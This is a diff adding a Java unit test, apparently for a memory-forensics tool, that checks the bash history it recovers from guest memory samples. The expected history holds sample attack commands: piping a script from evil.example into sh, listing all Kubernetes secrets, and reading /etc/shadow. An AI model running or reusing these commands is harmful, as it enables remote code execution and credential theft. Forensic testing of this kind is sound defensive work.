@@ -1,0 +1,38 @@
+package io.nodememory.kernel.truth;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import io.nodememory.kernel.Kernel;
+import io.nodememory.kernel.table.ShellHistoryRow;
+import java.util.List;
+import java.util.stream.Stream;
+import org.junit.jupiter.api.DynamicTest;
+import org.junit.jupiter.api.TestFactory;
+
+/** What the guests' first bash was told to do; the repository's own sample has no bash. */
+class ShellHistoryTruthTest {
+    @TestFactory
+    Stream<DynamicTest> listsWhatWasEntered() {
+        return Corpus.samples().stream().map(sample -> DynamicTest.dynamicTest(sample.toString(), () -> check(sample)));
+    }
+
+    private static void check(Corpus.Sample sample) {
+        try (Kernel kernel = sample.open()) {
+            List<ShellHistoryRow> rows = SpineTruthTest.rows(kernel, ShellHistoryRow.class);
+            assertThat(kernel.problems().list()).isEmpty();
+            if (sample.toString().equals("node")) {
+                assertThat(rows).isEmpty();
+                return;
+            }
+            assertThat(rows).allMatch(row -> row.name().equals("bash") && row.time() != null);
+            int first = rows.stream().mapToInt(ShellHistoryRow::pid).min().orElseThrow();
+            assertThat(rows.stream().filter(row -> row.pid() == first).map(row -> row.position() + " " + row.command()))
+                    .containsExactly(
+                            "1 set -o history",
+                            "2 whoami",
+                            "3 curl http://evil.example/x.sh | sh",
+                            "4 kubectl get secrets -A",
+                            "5 cat /etc/shadow");
+        }
+    }
+}
